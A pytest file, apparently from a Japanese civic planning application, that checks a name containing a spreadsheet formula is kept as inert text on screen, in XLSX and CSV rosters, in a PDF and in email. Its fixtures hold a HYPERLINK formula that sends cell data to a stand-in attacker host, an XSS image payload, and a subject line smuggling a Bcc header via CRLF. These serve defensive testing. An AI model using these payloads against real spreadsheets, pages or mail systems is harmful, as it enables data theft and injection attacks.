"""`=HYPERLINK` in a name is a name: on the screen, on paper, in a spreadsheet and in a mail."""

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from kokoroe.clock.channels.mail import MailServer, letter
from kokoroe.clock.channels.outgoing import Outgoing
from kokoroe.outside.inert import as_written, inert
from kokoroe.papers.xlsx import Column, table
from kokoroe.plan.roster.people import Person
from kokoroe.plan.roster.table import to_csv, to_xlsx
from kokoroe.tables.files import read_sheets
from people import LINES, NOW

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"押す")'
STARTS = ["=1+1", "+81-11-000-0001", "-2+3", "@SUM(A1)", "\t=1", "＝1+1", "＋1", "－1", "＠x", "'=1", "''+1"]


@pytest.fixture
def named(visit):
    """The plan in force with a formula for a name, and the moment it is in force."""
    from kokoroe.plan.writings import DRAFTING

    party = visit.party
    lines = [LINES[0], {**LINES[1], "name": FORMULA, "work": "<img src=x onerror=alert(1)>"}, LINES[2]]
    version = party.draft(lines=lines)
    DRAFTING.submit(seat=party.officer_seat, draft=version, edit=version.edit, now=NOW)
    version.refresh_from_db()
    return version


def test_on_the_screen_it_is_text(visit, named):
    page = visit.get(visit.party.officer, "plan_version", named.pk).content.decode()
    assert "=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1" in page
    assert "<img src=x" not in page
    assert 'href="https://evil' not in page


def test_in_the_roster_as_xlsx_it_is_text(visit, named):
    answer = visit.get(visit.party.officer, "roster_export", named.pk)
    cells = [
        cell
        for row in load_workbook(io.BytesIO(answer.content)).active
        for cell in row
        if cell.value == FORMULA
    ]
    assert [(cell.data_type, cell.quotePrefix, cell.hyperlink) for cell in cells] == [("s", True, None)]


def test_on_paper_it_is_text_and_no_link(visit, named):
    from pypdf import PdfReader

    pdf = PdfReader(io.BytesIO(bytes(named.submission.papers.get().content)))
    links = [
        note.get_object().get("/A", {}).get("/URI")
        for page in pdf.pages
        for note in page.get("/Annots", []) or []
    ]
    assert [link for link in links if link and "evil" in link] == []
    assert not any(key in pdf.trailer["/Root"] for key in ("/OpenAction", "/AA"))
    assert "HYPERLINK" in "".join(page.extract_text() for page in pdf.pages)


@pytest.mark.parametrize("text", [FORMULA, *STARTS])
def test_in_every_table_it_is_text(text):
    made = table("表", [Column("name", "氏名")], [{"name": text}])
    cell = load_workbook(io.BytesIO(made)).active["A4"]
    assert (cell.data_type, cell.value) == ("s", text)


@pytest.mark.parametrize("text", [FORMULA, *STARTS])
def test_in_a_csv_an_apostrophe_stands_before_it_and_an_import_takes_it_away(text):
    assert inert(text) == f"'{text}"
    assert as_written(inert(text)) == text


@pytest.mark.parametrize("text", ["見本 太郎", "'引用", "", "1=1", "O'Brien", "a-b"])
def test_other_text_stays_as_it_is_in_a_csv(text):
    assert inert(text) == as_written(text) == text


def test_a_roster_as_csv_comes_back_with_the_names_it_had():
    people = [Person({"name": FORMULA, "role": "worker", "phone": "+81-11-000-0001"})]
    written = to_csv(people)
    cells = list(csv.reader(io.StringIO(written.decode("utf-8-sig"))))[1]
    assert [cell for cell in cells if cell.startswith(("=", "+"))] == []
    (sheet,) = read_sheets(written, "名簿.csv")
    assert FORMULA in sheet.rows[1].cells
    assert load_workbook(io.BytesIO(to_xlsx(people))).active.cell(2, 2).data_type == "s"


def test_in_a_mail_it_is_text_and_no_header():
    subject = f"{FORMULA}\r\nBcc: everybody@evil.example"
    sent = letter(
        MailServer(host="mail.example", port=25, sender="心得 <kokoroe@city.example>"),
        Outgoing(
            id="x", subject=subject, body=f"{FORMULA} さん", at=NOW + timedelta(hours=1), to="a@city.example"
        ),
    )
    mail = sent.message()
    assert mail["Bcc"] is None
    assert sent.recipients() == ["a@city.example"]
    assert mail.get_content_type() == "text/plain"
